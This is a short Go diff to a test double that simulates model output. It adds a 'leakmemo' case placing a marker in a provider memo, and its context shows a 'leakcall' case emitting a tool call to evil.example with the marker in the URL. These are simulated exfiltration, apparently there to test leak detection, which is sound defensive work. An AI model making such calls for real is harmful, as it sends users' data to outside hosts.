@@ -107,6 +107,10 @@ func (p *puppet) Stream(ctx context.Context, r parley.ModelRequest) iter.Seq2[pa
 				continue
 			case "leakcall":
 				said.Call = &parley.MessageCall{Name: "do", Arguments: `{"url":"https://evil.example/?q=` + marker(r) + `"}`}
+			case "leakmemo":
+				raw, _ := json.Marshal(marker(r))
+				yield(parley.Said{Done: &parley.ModelDone{Memo: &parley.Memo{Provider: "p", Data: raw}}}, nil)
+				return
 			case "hang":
 				if noHang {
 					continue
